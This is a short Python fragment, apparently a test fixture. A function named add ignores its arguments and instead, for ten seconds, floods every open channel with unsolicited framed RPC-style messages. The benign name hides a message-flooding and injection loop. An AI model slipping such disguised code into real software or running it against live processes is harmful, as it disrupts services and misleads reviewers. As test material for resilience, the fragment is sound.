import os
import time

BODIES = [b"\x93\xa3ask\x01\x92\xa5input\x90", b"\x93\xa4call\x01\x90", b"\x92\xa3out\xa1x"]


def add(a, b):
    end = time.monotonic() + 10
    while time.monotonic() < end:
        for fd in channels():
            for body in BODIES:
                os.write(fd, len(body).to_bytes(4, "big") + body)
